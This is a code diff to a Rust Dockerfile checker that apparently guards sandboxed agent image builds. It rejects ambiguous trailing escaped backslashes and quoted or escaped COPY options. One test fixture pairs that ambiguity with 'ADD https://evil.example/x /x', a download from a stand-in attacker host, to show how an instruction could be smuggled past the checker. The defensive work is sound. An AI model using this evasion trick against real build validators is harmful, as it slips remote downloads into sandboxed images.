@@ -41,6 +41,12 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
                 number + 1
             ));
         }
+        if parse::ends_ambiguously(line) {
+            return Err(format!(
+                "line {}: it ends in \\\\, which docker's builders read differently (older ones continue the line, newer ones do not); end it otherwise",
+                number + 1
+            ));
+        }
     }
     let mut saw_from = false;
     for instruction in parse::instructions(dockerfile) {
@@ -60,11 +66,7 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
                     "heredocs (<<) are not allowed; write files with RUN printf '...' > FILE",
                 ));
             }
-            "COPY" if !copies_from_an_image(args) => {
-                return Err(at(
-                    "COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context",
-                ));
-            }
+            "COPY" => copy_options(args).map_err(at)?,
             "RUN" if first.starts_with("--") => {
                 return Err(at(&format!(
                     "RUN options ({}) are not allowed: the build has no network, mounts or extra privileges",
@@ -72,7 +74,6 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
                 )));
             }
             "FROM" => saw_from = true,
-            "COPY" => {}
             k if ALLOWED.contains(&k) => {}
             k => return Err(at(&format!("unknown instruction {k}"))),
         }
@@ -87,13 +88,25 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
     }
 }
 
-/// Whether a `COPY`'s options (the words before its sources) have a
+/// A `COPY`'s options (the words before its sources): written plainly (a
+/// quote or an escape would make docker cut them elsewhere), one of them
 /// `--from=`.
-fn copies_from_an_image(args: &str) -> bool {
-    args.split(parse::is_blank)
-        .filter(|w| !w.is_empty())
-        .take_while(|w| w.starts_with("--"))
-        .any(|w| w.starts_with("--from="))
+fn copy_options(args: &str) -> Result<(), &'static str> {
+    let mut from = false;
+    for word in args.split(parse::is_blank).filter(|w| !w.is_empty()) {
+        if !word.starts_with("--") {
+            break;
+        }
+        if word.contains(['\'', '"', '\\']) {
+            return Err("COPY options take no quotes or escapes; write them plainly");
+        }
+        from |= word.starts_with("--from=");
+    }
+    if from {
+        Ok(())
+    } else {
+        Err("COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context")
+    }
 }
 
 /// `# name=value` at the start of a line: what the builder reads as a
@@ -122,7 +135,6 @@ mod tests {
             "FROM a AS t\nFROM debian\nCOPY --chown=1000 --from=t /a /b\n",
             "from debian\n# a comment = with an equals sign in prose\nrun true \\\n  && echo done\n",
             "# A comment\nFROM debian\nENV A=1 \\\n    B=2\nWORKDIR /workspace\n",
-            "FROM debian\nRUN echo \\\\\nUSER agent\n",
         ];
         for dockerfile in fine {
             assert_eq!(check(dockerfile), Ok(()), "{dockerfile}");
@@ -177,6 +189,17 @@ mod tests {
             (
                 "FROM debian\nRUN true && \\\n  echo\nRUN \\\n  --mount=type=cache,target=/x true\n",
                 "line 4: RUN options (--mount)",
+            ),
+            // An escaped backslash at the end: today's builder reads the
+            // next line as an instruction of its own, an older one as more
+            // of this one. Neither reading is taken.
+            (
+                "FROM debian\nRUN echo \\\\\nADD https://evil.example/x /x\n",
+                "line 2: it ends in \\\\, which docker's builders read differently",
+            ),
+            (
+                "FROM debian\nRUN echo \\\\ \t\nUSER agent\n",
+                "line 2: it ends in",
             ),
             // A blank line inside a continuation does not end it.
             (
